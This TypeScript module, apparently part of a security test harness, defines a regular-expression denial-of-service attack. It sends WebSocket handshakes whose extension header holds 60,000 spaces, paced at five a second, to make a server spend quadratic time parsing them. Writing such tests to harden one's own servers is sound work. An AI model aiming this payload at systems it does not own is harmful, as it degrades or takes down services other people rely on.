// S3: a regular expression whose time is quadratic in the length of a header.

import type { Attack } from '../attack.ts'
import { exchange, paced } from '../raw.ts'
import { handshake } from '../ws.ts'

const RATE = 5
const SPACES = 60_000
const OFFER = `Sec-WebSocket-Extensions: permessage-deflate; a${' '.repeat(SPACES)}b\r\n`

export const extensionSpaces: Attack = {
  name: 'extension-spaces',
  title: `S3: handshakes that offer an extension with ${SPACES.toLocaleString('en')} spaces`,
  rate: `${RATE} a second`,
  critical: true,
  async attack({ port }, signal) {
    const handshakes = await paced(RATE, signal, async () => {
      const { socket } = await exchange(port, handshake('/v1/ws', OFFER))
      socket?.destroy()
    })
    return { did: { handshakes } }
  },
}
